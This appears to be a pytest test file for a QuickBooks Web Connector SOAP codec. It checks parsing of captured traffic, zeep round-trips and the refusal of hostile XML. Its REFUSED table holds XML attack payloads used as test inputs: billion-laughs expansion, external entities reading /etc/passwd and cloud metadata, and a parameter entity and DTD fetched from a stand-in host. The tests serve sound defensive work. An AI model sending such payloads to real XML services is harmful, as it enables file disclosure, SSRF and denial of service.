"""The Web Connector SOAP codec: it reads what the Web Connector really sends (captured traffic), refuses
hostile XML, and writes responses a real SOAP client (zeep, loaded with Intuit's WSDL) reads as intended."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from qbsync.adapters.qbxml.hcp import read_company_facts
from qbsync.qbwc import soap
from qbsync.qbwc.errors import FaultCode, SoapFaultError
from qbsync.qbwc.service import WebConnectorService
from qbsync.usecases.desktop_connection import DesktopConnections
from tests.unit.connection_fakes import InMemoryConnections, RecordingEvents
from tests.unit.fakes import FixedClock, InMemorySettings, InMemoryTenants
from tests.unit.qbwc_fakes import (
    InMemoryQbwcCredentials,
    InMemoryQbwcLoginFailures,
    InMemoryQbwcSessions,
    in_memory_desktop_sync,
)

REFERENCE = Path(__file__).resolve().parents[2].parent / "shared" / "reference" / "qbwc"
CAPTURES = REFERENCE / "captures"
WSDL = REFERENCE / "wsdl" / "intuit_troubleshoot_via_flowlink" / "QBWebConnectorSvc.wsdl"
BINDING = "{http://developer.intuit.com/}TroubleshootWebServiceFSSoap"
needs_reference = pytest.mark.skipif(
    not REFERENCE.is_dir(), reason=f"the QBWC reference material is not checked out at {REFERENCE}"
)

# The captured log holds two complete updates of QBWC 2.0.0.116 against QuickBooks Pro 2006.
LOGGED_CALLS = [
    "serverVersion", "clientVersion", "authenticate", "sendRequestXML", "getLastError", "closeConnection",
    "serverVersion", "clientVersion", "authenticate", "sendRequestXML", "receiveResponseXML",
    "sendRequestXML", "getLastError", "closeConnection",
]  # fmt: skip


def logged_requests() -> list[bytes]:
    text = (CAPTURES / "quickbooks_log.txt").read_text(encoding="utf-8-sig")
    prefix = "Incoming SOAP Request: "
    return [
        line.removeprefix(prefix).strip().encode() for line in text.splitlines() if line.startswith(prefix)
    ]


def captured_envelope_files() -> list[Path]:
    return sorted(
        p for p in CAPTURES.glob("*.xml") if b"schemas.xmlsoap.org/soap/envelope/" in p.read_bytes()
    )


def envelope(inner: str, *, prolog: str = "", header: str = "") -> bytes:
    return (
        f'{prolog}<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">{header}'
        f"<soap:Body>{inner}</soap:Body></soap:Envelope>"
    ).encode()


# ---------------------------------------------------------------- what the Web Connector sends


@needs_reference
def test_every_logged_request_of_a_real_web_connector_parses() -> None:
    requests = [soap.parse_request(body) for body in logged_requests()]
    assert [r.operation for r in requests] == LOGGED_CALLS
    client_version, authenticate, first_send = requests[1], requests[2], requests[3]
    assert client_version.params == {"strVersion": "2.0.0.116"}
    assert authenticate.params == {"strUserName": "api", "strPassword": "password"}
    assert first_send.params["ticket"] == "c94c84b3d59fe7a1603b765dd734e481"
    assert first_send.params["strHCPResponse"].startswith('<?xml version="1.0" ?> <QBXML>')
    assert "<HostQueryRs" in first_send.params["strHCPResponse"]
    assert first_send.params["strCompanyFileName"] == "C:\\KPALMER\\QBW\\Test Company.QBW"
    assert (first_send.params["qbXMLCountry"], first_send.params["qbXMLMajorVers"]) == ("US", "5")
    assert requests[0].params == {}  # <serverVersion xmlns="..." />
    assert requests[11].params["strHCPResponse"] == ""  # later calls of a session send <strHCPResponse />
    assert "<CustomerAddRs" in requests[10].params["response"]
    assert requests[10].params["hresult"] == ""


@needs_reference
def test_every_logged_request_is_answered_by_the_service_without_a_fault() -> None:
    credentials, sessions, clock = InMemoryQbwcCredentials(), InMemoryQbwcSessions(), FixedClock()
    connections = DesktopConnections(
        InMemoryTenants(), InMemoryConnections(), credentials, InMemorySettings(), RecordingEvents(), clock
    )
    service = WebConnectorService(
        credentials,
        sessions,
        clock,
        read_company_facts,
        failures=InMemoryQbwcLoginFailures(),
        desktop=in_memory_desktop_sync(sessions, clock),
        connections=connections,
    )
    for body in logged_requests():
        request = soap.parse_request(body)
        result = service.call(request.operation, request.params)
        assert etree.fromstring(soap.build_response(request.operation, result)) is not None


@needs_reference
@pytest.mark.parametrize(
    "path", captured_envelope_files() if REFERENCE.is_dir() else [], ids=lambda p: p.name
)
def test_every_captured_envelope_parses_to_its_qbxml_response(path: Path) -> None:
    request = soap.parse_request(path.read_bytes())
    assert request.operation == "receiveResponseXML"
    assert request.params["ticket"] == "354f40b4-b661-4472-a13f-8abf13a743c3"
    assert request.params["hresult"] == ""
    qbxml = etree.fromstring(request.params["response"].strip().encode())
    assert qbxml.tag == "QBXML"  # hand-made envelopes inline it; it keeps no envelope namespace
    statuses = [rs.get("statusCode") for rs in qbxml.find("QBXMLMsgsRs") if isinstance(rs.tag, str)]
    assert statuses
    assert all(s is not None and s.isdigit() for s in statuses)


@needs_reference
def test_the_inline_error_response_keeps_its_status_and_comment() -> None:
    request = soap.parse_request((CAPTURES / "sales_order_add_rs_invalid_record_ref.xml").read_bytes())
    response = request.params["response"]
    assert 'statusCode="3140"' in response
    assert "invalid reference to QuickBooks Customer &quot;Joe Smith&quot;" in response
    assert "<!--" in response
    assert "developer.intuit.com" not in response


@needs_reference
def test_requests_written_by_a_real_soap_client_parse_back(zeep_client: Any) -> None:
    calls: dict[str, dict[str, Any]] = {
        "serverVersion": {},
        "clientVersion": {"strVersion": "2.3.0.215"},
        "authenticate": {"strUserName": "qbwc-acme-42", "strPassword": "p<a>&ss\"word'"},
        "sendRequestXML": {
            "ticket": "t-1",
            "strHCPResponse": '<?xml version="1.0" ?><QBXML a="&amp;"/>',
            "strCompanyFileName": "C:\\Files\\Acme & Sons.QBW",
            "qbXMLCountry": "US",
            "qbXMLMajorVers": 16,
            "qbXMLMinorVers": 0,
        },
        "receiveResponseXML": {
            "ticket": "t-1",
            "response": "<QBXML>é ✓</QBXML>",
            "hresult": "",
            "message": "",
        },
        "connectionError": {
            "ticket": "t-1",
            "hresult": "0x80040408",
            "message": "Could not start QuickBooks.",
        },
        "getLastError": {"ticket": "t-1"},
        "closeConnection": {"ticket": "t-1"},
    }
    for operation, kwargs in calls.items():
        message = zeep_client.create_message(zeep_client.service, operation, **kwargs)
        request = soap.parse_request(etree.tostring(message, xml_declaration=True, encoding="utf-8"))
        assert request.operation == operation
        assert request.params == {k: str(v) for k, v in kwargs.items()}


def test_nil_parameters_are_absent_and_foreign_elements_are_skipped() -> None:
    request = soap.parse_request(
        envelope(
            '<sendRequestXML xmlns="http://developer.intuit.com/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
            '<ticket>t</ticket><strHCPResponse xsi:nil="true"/><x:extra xmlns:x="urn:other">1</x:extra>'
            "<qbXMLMajorVers>13</qbXMLMajorVers></sendRequestXML>"
        )
    )
    assert request.params == {"ticket": "t", "qbXMLMajorVers": "13"}


def test_a_header_without_must_understand_is_ignored() -> None:
    header = '<soap:Header><t:Trace xmlns:t="urn:trace">abc</t:Trace></soap:Header>'
    request = soap.parse_request(
        envelope('<serverVersion xmlns="http://developer.intuit.com/"/>', header=header)
    )
    assert request.operation == "serverVersion"


# ---------------------------------------------------------------- what it refuses

LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
REFUSED = {
    "billion laughs": envelope(
        '<clientVersion xmlns="http://developer.intuit.com/"><strVersion>&lol9;</strVersion></clientVersion>',
        prolog=f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{LAUGHS}]>',
    ),
    "external entity (file)": envelope(
        '<clientVersion xmlns="http://developer.intuit.com/"><strVersion>&xxe;</strVersion></clientVersion>',
        prolog='<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ),
    "external entity (network)": envelope(
        '<authenticate xmlns="http://developer.intuit.com/"><strUserName>&xxe;</strUserName></authenticate>',
        prolog='<!DOCTYPE e [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
    ),
    "parameter entity": envelope(
        '<serverVersion xmlns="http://developer.intuit.com/"/>',
        prolog='<!DOCTYPE e [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]>',
    ),
    "external DTD": envelope(
        '<serverVersion xmlns="http://developer.intuit.com/"/>',
        prolog='<!DOCTYPE soap:Envelope SYSTEM "http://203.0.113.9/soap.dtd">',
    ),
    "harmless DOCTYPE": envelope(
        '<serverVersion xmlns="http://developer.intuit.com/"/>', prolog="<!DOCTYPE x>"
    ),
    "undefined entity": envelope(
        '<clientVersion xmlns="http://developer.intuit.com/"><strVersion>&nope;</strVersion></clientVersion>'
    ),
    "not XML": b"serverVersion please",
    "empty": b"",
    "whitespace": b"  \r\n ",
    "truncated": envelope('<serverVersion xmlns="http://developer.intuit.com/"/>')[:-10],
    "JSON": b'{"operation": "serverVersion"}',
    "no envelope": b'<serverVersion xmlns="http://developer.intuit.com/"/>',
    "no body": b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"/>',
    "empty body": envelope(""),
    "two calls": envelope(
        '<serverVersion xmlns="http://developer.intuit.com/"/><serverVersion xmlns="http://developer.intuit.com/"/>'
    ),
    "call outside the Intuit namespace": envelope("<serverVersion/>"),
    "repeated parameter": envelope(
        '<getLastError xmlns="http://developer.intuit.com/"><ticket>a</ticket><ticket>b</ticket></getLastError>'
    ),
}


@pytest.mark.parametrize("body", REFUSED.values(), ids=REFUSED.keys())
def test_hostile_or_broken_requests_are_client_faults(body: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(SoapFaultError) as raised:
        soap.parse_request(body)
    assert time.perf_counter() - started < 1.0  # nothing was expanded or fetched
    assert raised.value.code is FaultCode.CLIENT
    assert "root:" not in raised.value.message
    assert "lol" not in raised.value.message


def test_doctype_refusal_says_why() -> None:
    with pytest.raises(SoapFaultError, match="DOCTYPE declarations are not accepted"):
        soap.parse_request(REFUSED["external entity (file)"])


def test_a_soap_12_envelope_is_a_version_mismatch() -> None:
    body = (
        b'<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"><env:Body>'
        b'<serverVersion xmlns="http://developer.intuit.com/"/></env:Body></env:Envelope>'
    )
    with pytest.raises(SoapFaultError) as raised:
        soap.parse_request(body)
    assert raised.value.code is FaultCode.VERSION_MISMATCH
    assert "SOAP 1.1" in raised.value.message


def test_a_header_that_must_be_understood_is_refused() -> None:
    header = (
        '<soap:Header><w:Security xmlns:w="urn:wsse" soap:mustUnderstand="1">x</w:Security></soap:Header>'
    )
    with pytest.raises(SoapFaultError) as raised:
        soap.parse_request(envelope('<serverVersion xmlns="http://developer.intuit.com/"/>', header=header))
    assert raised.value.code is FaultCode.MUST_UNDERSTAND


# ---------------------------------------------------------------- what it answers, as a SOAP client reads it


@pytest.fixture(scope="module")
def zeep_client() -> Any:
    if not WSDL.is_file():
        pytest.skip(f"the Web Connector WSDL is not checked out at {WSDL}")
    import zeep

    return zeep.Client(str(WSDL))


def read_reply(zeep_client: Any, operation: str, body: bytes) -> Any:
    return zeep_client.wsdl.bindings[BINDING].get(operation).process_reply(etree.fromstring(body))


QBXML_REQUEST = (
    '<?xml version="1.0" encoding="utf-8"?><?qbxml version="13.0"?><QBXML><QBXMLMsgsRq onError="stopOnError">'
    '<CustomerAddRq requestID="1"><CustomerAdd><Name>Jane Doe &amp; Sons</Name></CustomerAdd></CustomerAddRq>'
    "</QBXMLMsgsRq></QBXML>"
)


@needs_reference
@pytest.mark.parametrize(
    ("operation", "result", "expected"),
    [
        ("serverVersion", "qbsync 0.2.0", "qbsync 0.2.0"),
        ("sendRequestXML", QBXML_REQUEST, QBXML_REQUEST),
        ("receiveResponseXML", 100, 100),
        ("receiveResponseXML", 42, 42),
        ("connectionError", "done", "done"),
        (
            "getLastError",
            "Unknown session; run the Web Connector again",
            "Unknown session; run the Web Connector again",
        ),
        ("getLastError", "Café ✓ <not markup> & more", "Café ✓ <not markup> & more"),
        ("closeConnection", "OK", "OK"),
        (
            "authenticate",
            ["Vt3nQ0mJ7r0p6ZrXc1cQe5B9lq3pYt2dF8sWk4aHn0U", "nvu"],
            ["Vt3nQ0mJ7r0p6ZrXc1cQe5B9lq3pYt2dF8sWk4aHn0U", "nvu"],
        ),
    ],
)
def test_responses_read_back_through_zeep(
    zeep_client: Any, operation: str, result: Any, expected: Any
) -> None:
    assert read_reply(zeep_client, operation, soap.build_response(operation, result)) == expected


@needs_reference
def test_empty_strings_are_written_as_elements_not_left_out(zeep_client: Any) -> None:
    body = soap.build_response("authenticate", ["", "nvu"])
    strings = etree.fromstring(body).findall(".//{http://developer.intuit.com/}string")
    # Two members, the first empty and not nil: .NET reads it as "", so "nvu" stays second.
    assert [s.text or "" for s in strings] == ["", "nvu"]
    assert all(s.get(f"{{{soap.XSI}}}nil") is None for s in strings)
    # zeep reads an empty element as None; position is what matters.
    assert read_reply(zeep_client, "authenticate", body) == [None, "nvu"]
    assert read_reply(zeep_client, "clientVersion", soap.build_response("clientVersion", "")) in ("", None)


def test_responses_are_utf8_soap_11_in_the_wsdl_shape() -> None:
    body = soap.build_response("closeConnection", "OK")
    assert body.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    root = etree.fromstring(body)
    assert root.tag == "{http://schemas.xmlsoap.org/soap/envelope/}Envelope"
    (response,) = root.find("{http://schemas.xmlsoap.org/soap/envelope/}Body")
    assert response.tag == "{http://developer.intuit.com/}closeConnectionResponse"
    assert [(c.tag, c.text) for c in response] == [
        ("{http://developer.intuit.com/}closeConnectionResult", "OK")
    ]


@needs_reference
@pytest.mark.parametrize("code", list(FaultCode))
def test_faults_read_back_through_zeep(zeep_client: Any, code: FaultCode) -> None:
    from zeep.exceptions import Fault

    body = soap.build_fault(code, "The request is not well-formed XML (line 1, column 15).")
    binding = zeep_client.wsdl.bindings[BINDING]
    with pytest.raises(Fault) as raised:
        binding.process_error(etree.fromstring(body), binding.get("serverVersion"))
    assert raised.value.code == f"soap:{code.value}"
    assert raised.value.message == "The request is not well-formed XML (line 1, column 15)."
